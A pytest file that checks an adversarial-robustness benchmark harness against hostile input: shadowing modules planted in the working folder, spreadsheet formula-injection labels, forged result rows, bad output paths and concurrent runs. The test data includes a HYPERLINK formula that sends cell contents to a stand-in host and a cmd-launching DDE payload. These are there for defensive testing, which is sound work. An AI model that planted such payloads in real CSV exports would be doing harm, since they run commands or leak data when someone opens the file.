"""A hostile or careless user (issue 16): nothing runs from the working folder, no CSV the harness
rejects, one-line errors before any work, no forged row kept, no two runs on one output."""

from __future__ import annotations

import errno
import os
import subprocess
import sys
import threading
from pathlib import Path

import pandas as pd
import pytest
from conftest import subprocess_env

from harness.cli import main
from harness.leaderboard import read_leaderboard, write_leaderboard
from harness.outcomes import outcomes_path

SMALL = """
name = "small"
seeds = [0]
n_samples = 30
batch_size = 30

[[datasets]]
name = "digits"
test_size = 60

[[models]]
name = "mlp"
hidden = [16]
epochs = 1

[[attacks]]
name = "fgsm"
eps = [0.1, 0.2]
"""


def small(**replace: str) -> str:
    text = SMALL
    for old, new in replace.items():
        text = text.replace(old, new)
    return text


@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    """A finished small run: (suite, leaderboard), copied by the tests that change it."""
    directory = tmp_path_factory.mktemp("finished")
    suite = directory / "small.toml"
    suite.write_text(SMALL)
    assert main(["run", str(suite), "--cache-dir", str(directory / "cache")]) == 0
    return suite, suite.with_suffix(".csv")


def copy_run(finished, tmp_path: Path) -> tuple[Path, Path]:
    suite, csv = finished
    (tmp_path / suite.name).write_bytes(suite.read_bytes())
    for path in (csv, outcomes_path(csv)):
        (tmp_path / path.name).write_bytes(path.read_bytes())
    return tmp_path / suite.name, tmp_path / csv.name


def one_line_error(err: str) -> bool:
    lines = [line for line in err.splitlines() if line.startswith("harness: error:")]
    return len(lines) == 1 and "Traceback" not in err


# --- 1. code from the working folder or the suite's folder ---

TRAP = "import pathlib\npathlib.Path({marker!r}).write_text('ran')\nraise SystemExit('the booby trap {name}.py ran')\n"


@pytest.mark.slow
def test_modules_beside_the_suite_or_in_the_working_folder_never_run(tmp_path):
    work, suites = tmp_path / "work", tmp_path / "suites"
    for folder in (work, suites):
        folder.mkdir()
        for name in ("tqdm", "pandas", "torch", "sklearn", "matplotlib", "art"):
            (folder / f"{name}.py").write_text(TRAP.format(marker=str(tmp_path / f"ran-{folder.name}-{name}"), name=name))
    # a plugin the suite names, beside the traps: it is found, and the traps are still never imported
    (suites / "named_plugin.py").write_text("from harness.hookspecs import hookimpl\n\nLOADED = True\n")
    suite = suites / "suite.toml"
    suite.write_text(small(**{'name = "small"': 'name = "small"\nplugins = ["named_plugin"]'}))
    script = Path(sys.executable).parent / "harness"
    env = subprocess_env(tmp_path)
    for command in ([str(script)], [sys.executable, "-m", "harness"]):
        result = subprocess.run(
            [*command, "run", str(suite), "--output", str(tmp_path / "out.csv"), "--force"],
            cwd=work, env=env, capture_output=True, text=True,
        )  # fmt: skip
        assert result.returncode == 0, result.stderr
        assert "2 ok" in result.stdout
        listing = subprocess.run([*command, "-p", "named_plugin", "plugins"], cwd=suites, env=env, capture_output=True, text=True)
        assert listing.returncode == 0 and "named_plugin  ((unpackaged))" in listing.stdout, listing.stderr
    assert sorted(p.name for p in tmp_path.glob("ran-*")) == []


def test_a_named_plugin_folder_is_appended_behind_installed_packages(tmp_path, monkeypatch):
    from harness.plugins import load_plugins

    (tmp_path / "pandas.py").write_text("raise SystemExit('shadowed')\n")
    (tmp_path / "behind_plugin.py").write_text("VALUE = 1\n")
    monkeypatch.setattr(sys, "path", list(sys.path))
    registry = load_plugins(["behind_plugin"], [tmp_path])
    assert "behind_plugin" in {p.name for p in registry.plugins}
    assert sys.path[-1] == str(tmp_path) and str(tmp_path) not in sys.path[:-1]
    load_plugins([], [tmp_path / "elsewhere"])  # a folder holding no named module is never added
    assert str(tmp_path / "elsewhere") not in sys.path


# --- 2, 5, 21. what a spreadsheet would run, control characters ---

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"y")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tlabel", "\r=1+2", "a\rb", "nul\0"]


@pytest.mark.parametrize("label", FORMULAS, ids=repr)
def test_labels_a_spreadsheet_would_run_or_that_split_rows_are_rejected(cli, write_suite, label):
    toml_label = label.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r").replace("\0", "\\u0000")
    suite = write_suite(small(**{'epochs = 1': f'epochs = 1\nlabel = "{toml_label}"'}))
    code, _, err = cli("validate", suite)
    assert code == 2 and one_line_error(err)
    assert "models[0] (mlp): label" in err and ("formula" in err or "control character" in err)
    named = write_suite(small(**{'name = "small"': f'name = "{toml_label}"'}), name="named.toml")
    code, _, err = cli("validate", named)
    assert code == 2 and "'name'" in err


def test_free_text_is_escaped_on_write_and_reads_back(finished, tmp_path):
    _, csv = finished
    rows = read_leaderboard(csv).to_dict("records")
    rows[0]["message"] = "=cmd|' /C calc'!A0"
    rows[1]["message"] = "line\rbreak and nul\0"
    rows[1]["model_plugin"] = "@evil"
    path = tmp_path / "escaped.csv"
    write_leaderboard(rows, path)
    frame = read_leaderboard(path)  # what a run writes, validate reads
    assert frame.loc[0, "message"] == "'=cmd|' /C calc'!A0"
    assert frame.loc[1, "message"] == "line break and nul " and frame.loc[1, "model_plugin"] == "'@evil"
    assert len(pd.read_csv(path)) == len(rows)  # no row was split
    write_leaderboard(frame.to_dict("records"), tmp_path / "again.csv")  # escaping twice changes nothing
    assert (tmp_path / "again.csv").read_bytes() == path.read_bytes()


@pytest.mark.parametrize(("field", "value"), [("model", "ml\0p"), ("message", "a\0b"), ("model", "=1+2")])
def test_validate_rejects_control_characters_and_formulas_in_any_field(cli, finished, tmp_path, field, value):
    _, csv = finished
    frame = pd.read_csv(csv, keep_default_na=False)
    frame.loc[0, field] = value
    path = tmp_path / "bad.csv"
    frame.to_csv(path, index=False)
    code, _, err = cli("validate", path)
    assert code == 2 and one_line_error(err) and f"column '{field}'" in err


# --- 4. entries that differ only in their label ---


@pytest.mark.parametrize(
    ("extra", "named"),
    [
        ('[[models]]\nname = "mlp"\nlabel = "b"\nhidden = [16]\nepochs = 1\n', "models 'mlp' and 'b'"),
        ('[[datasets]]\nname = "digits"\nlabel = "d2"\ntest_size = 60\n', "datasets 'digits' and 'd2'"),
        ('[[attacks]]\nname = "fgsm"\nlabel = "f2"\neps = [0.2, 0.3]\n', "attacks 'fgsm' and 'f2' are the same configuration at eps 0.2"),
    ],
)  # fmt: skip
def test_entries_differing_only_in_label_are_rejected_naming_both(cli, write_suite, extra, named):
    code, _, err = cli("validate", write_suite(SMALL + extra))
    assert code == 2 and one_line_error(err) and named in err


def test_entries_differing_in_a_parameter_are_kept_apart(cli, write_suite):
    suite = write_suite(SMALL + '[[models]]\nname = "mlp"\nlabel = "b"\nhidden = [16]\nepochs = 2\n')
    code, out, _ = cli("validate", suite)
    assert code == 0 and "(4 cells)" in out


# --- 6-13. the output, checked before any work ---


def assert_nothing_computed(tmp_path: Path) -> None:
    assert not list((tmp_path / "cache").glob("models/*")), "a model was trained before the output was checked"


@pytest.mark.parametrize(
    ("output", "expected"),
    [
        ("", "is not a file name"),
        ("{tmp}/file.txt/out.csv", "file.txt is a file, not a folder"),
        ("{tmp}/" + "n" * 300 + ".csv", "File name too long"),
        ("{tmp}/folder.csv", "is a folder"),
        ("{tmp}/taken.csv", "outcomes file {tmp}/taken.outcomes.csv.gz is a folder"),
        ("{tmp}/results.tsv", "must be a .csv file"),
    ],
)
def test_an_output_that_cannot_be_written_is_refused_before_training(cli, write_suite, tmp_path, output, expected):
    (tmp_path / "file.txt").write_text("")
    (tmp_path / "folder.csv").mkdir()
    (tmp_path / "taken.outcomes.csv.gz").mkdir()
    code, _, err = cli("run", write_suite(), "--output", output.format(tmp=tmp_path))
    assert code == 2 and one_line_error(err) and expected.format(tmp=tmp_path) in err
    assert_nothing_computed(tmp_path)


@pytest.mark.parametrize("missing_parent", [False, True])
def test_a_read_only_output_folder_is_refused_before_training(cli, write_suite, tmp_path, monkeypatch, missing_parent):
    import harness.files

    def read_only(*args, **kwargs):
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(tmp_path / "ro"))

    monkeypatch.setattr(harness.files.tempfile, "mkstemp", read_only)
    if missing_parent:
        monkeypatch.setattr(harness.files.Path, "mkdir", read_only)
    code, _, err = cli("run", write_suite(), "--output", tmp_path / "ro" / ("new" if missing_parent else "") / "out.csv")
    assert code == 2 and one_line_error(err) and "Read-only file system" in err
    assert_nothing_computed(tmp_path)


def test_the_suite_file_is_never_an_output(cli, write_suite, tmp_path):
    suite = write_suite()
    before = suite.read_bytes()
    code, _, err = cli("run", suite, "--output", suite, "--force")
    assert code == 2 and one_line_error(err) and suite.read_bytes() == before
    as_csv = write_suite(name="suite.csv")  # its default output would be itself
    code, _, err = cli("run", as_csv)
    assert code == 2 and "is the suite file itself" in err and as_csv.read_bytes() == before
    assert_nothing_computed(tmp_path)


@pytest.mark.parametrize("device", ["gpu", "tpu", "cuda:x", ""])
def test_an_unknown_device_is_refused_when_parsing(capsys, write_suite, device):
    with pytest.raises(SystemExit) as exit_:
        main(["run", str(write_suite()), "--device", device])
    assert exit_.value.code == 2
    assert "auto, cpu, cuda, cuda:N or mps" in capsys.readouterr().err


def test_a_full_disk_under_the_output_is_one_line_and_loses_nothing(cli, finished, tmp_path, monkeypatch):
    import harness.files

    suite, csv = copy_run(finished, tmp_path)
    before = csv.read_bytes()
    suite.write_text(suite.read_text().replace("eps = [0.1, 0.2]", "eps = [0.1, 0.2, 0.3]"))

    def full(_descriptor):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(harness.files.os, "fsync", full)
    code, _, err = cli("run", suite)
    assert code == 2 and one_line_error(err) and "No space left on device" in err and str(csv.parent) in err
    assert csv.read_bytes() == before and not list(tmp_path.glob(".*.tmp"))
    monkeypatch.undo()
    code, out, _ = cli("run", suite)
    assert code == 0 and "(1 computed, 2 already done)" in out


# --- 7. plot file names ---


def test_plot_file_names_never_collide_and_stay_short(cli, finished, tmp_path):
    _, csv = finished
    frame = read_leaderboard(csv)
    labels = ["ds/x", "ds-x", "L" * 300, "digits"]
    rows = pd.concat([frame.assign(dataset=label, cell_id=frame["cell_id"] + str(i)) for i, label in enumerate(labels)])
    path = tmp_path / "many.csv"
    write_leaderboard(rows.to_dict("records"), path)
    code, out, err = cli("plot", path)
    assert code == 0, err
    written = [Path(line) for line in out.splitlines()]
    assert len(written) == len(set(written)) == 4 and all(p.exists() and len(p.name) < 120 for p in written)
    assert tmp_path / "many-plots" / "robust-accuracy-ds-x.png" in written


# --- 19, 20. compare's options and impossible comparisons ---


@pytest.mark.parametrize(
    "option", [["--tolerance", "nan"], ["--tolerance", "-1"], ["--tolerance", "inf"], ["--alpha", "2"], ["--alpha", "nan"], ["--alpha", "0"]]
)  # fmt: skip
def test_compare_refuses_meaningless_tolerance_and_alpha(capsys, finished, option):
    _, csv = finished
    with pytest.raises(SystemExit) as exit_:
        main(["compare", str(csv), str(csv), *option])
    assert exit_.value.code == 2 and "Traceback" not in capsys.readouterr().err


def test_a_comparison_with_nothing_in_common_exits_1(cli, finished, tmp_path):
    _, csv = finished
    frame = pd.read_csv(csv, keep_default_na=False)
    header_only, other = tmp_path / "empty.csv", tmp_path / "other.csv"
    frame.iloc[:0].to_csv(header_only, index=False)
    frame.assign(model="another").to_csv(other, index=False)
    for b in (header_only, other):
        for extra in ([], ["--tolerance", "0.01"], ["--json"]):
            code, _, err = cli("compare", csv, b, *extra)
            assert code == 1 and one_line_error(err) and "nothing was compared" in err


# --- 22. resume trusts what it reads ---


def test_resume_recomputes_a_row_its_outcomes_do_not_back(cli, finished, tmp_path):
    suite, csv = copy_run(finished, tmp_path)
    original = read_leaderboard(csv)
    frame = pd.read_csv(csv, keep_default_na=False)
    frame.loc[1, "robust_accuracy"] = 0.99
    frame.loc[1, "robust_accuracy_ci_high"] = 1.0
    frame.to_csv(csv, index=False)
    code, _, err = cli("validate", csv)
    assert code == 2 and "disagree with their leaderboard row" in err
    code, out, err = cli("run", suite)
    assert code == 0 and "(1 computed, 1 already done)" in out
    assert "recomputing 1 cells" in err and "digits/mlp/none/fgsm@0.2/seed0" in err
    pd.testing.assert_series_equal(read_leaderboard(csv)["robust_accuracy"], original["robust_accuracy"])


def test_resume_without_the_outcomes_file_restores_it(cli, finished, tmp_path):
    suite, csv = copy_run(finished, tmp_path)
    outcomes_path(csv).unlink()
    code, out, err = cli("run", suite)
    assert code == 0 and "(2 computed, 0 already done)" in out and "recomputing 2 cells" in err
    assert cli("validate", csv)[0] == 0 and outcomes_path(csv).exists()


def test_a_relabelled_entry_keeps_its_rows_under_the_new_label(cli, finished, tmp_path):
    suite, csv = copy_run(finished, tmp_path)
    suite.write_text(suite.read_text().replace("epochs = 1", 'epochs = 1\nlabel = "tiny-mlp"'))
    code, out, _ = cli("run", suite)
    assert code == 0 and "(0 computed, 2 already done)" in out
    assert set(read_leaderboard(csv)["model"]) == {"tiny-mlp"}


# --- 23. two runs on one output ---


def test_a_second_run_on_a_locked_output_fails_or_waits(cli, finished, tmp_path):
    suite, csv = copy_run(finished, tmp_path)
    lock_path = csv.with_name(f".{csv.name}.lock")
    hold = (
        "import sys, time\nfrom filelock import FileLock\nlock = FileLock(sys.argv[1])\nlock.acquire()\n"
        "open(sys.argv[1], 'w').write('pid 1234 on elsewhere')\nprint('held', flush=True)\ntime.sleep(60)\n"
    )
    holder = subprocess.Popen([sys.executable, "-c", hold, str(lock_path)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        code, _, err = cli("run", suite)
        assert code == 2 and one_line_error(err) and "being written by another run (pid 1234 on elsewhere)" in err
        releaser = threading.Timer(0.5, holder.kill)  # a killed holder never leaves the lock held
        releaser.start()
        code, out, err = cli("run", suite, "--wait")
        releaser.join()
        assert code == 0 and "waiting for the other run" in err and "already done" in out
    finally:
        holder.kill()
        holder.wait()


# --- 17, 18. values that are valid but almost surely not meant ---


def test_an_linf_budget_above_one_is_warned_about(cli, write_suite):
    code, _, err = cli("validate", write_suite(small(**{"eps = [0.1, 0.2]": "eps = [0.1, 2.0]"})))
    assert code == 0 and "Linf eps 2 is above 1" in err


def test_entries_without_a_common_seed_are_not_compared(cli, finished, tmp_path):
    _, csv = finished
    frame = read_leaderboard(csv)
    other = frame.assign(attack="other", seed=1, cell_id=frame["cell_id"] + "-other")
    path = tmp_path / "seeds.csv"
    write_leaderboard(pd.concat([frame, other]).to_dict("records"), path)
    code, _, err = cli("compare", path, "--by", "attack", "--baseline", "fgsm")
    assert code == 1 and one_line_error(err) and "nothing was compared" in err


def test_n_samples_beyond_the_test_split_is_warned_about_and_both_numbers_recorded(cli, write_suite):
    suite = write_suite(small(**{"n_samples = 30": "n_samples = 500"}))
    code, _, err = cli("run", suite)
    assert code == 0 and err.count("n_samples 500 asked, but the test split holds 60") == 1
    frame = read_leaderboard(suite.with_suffix(".csv"))
    assert frame["n_samples"].eq(60).all() and frame["message"].str.contains("n_samples 500 asked").all()


def test_the_python_api_refuses_an_unknown_device():
    from harness.errors import UsageError
    from harness.execute import resolve_device

    for name in ("gpu", "tpu", "cuda:x"):
        with pytest.raises(UsageError, match="auto, cpu, cuda, cuda:N or mps"):
            resolve_device(name)
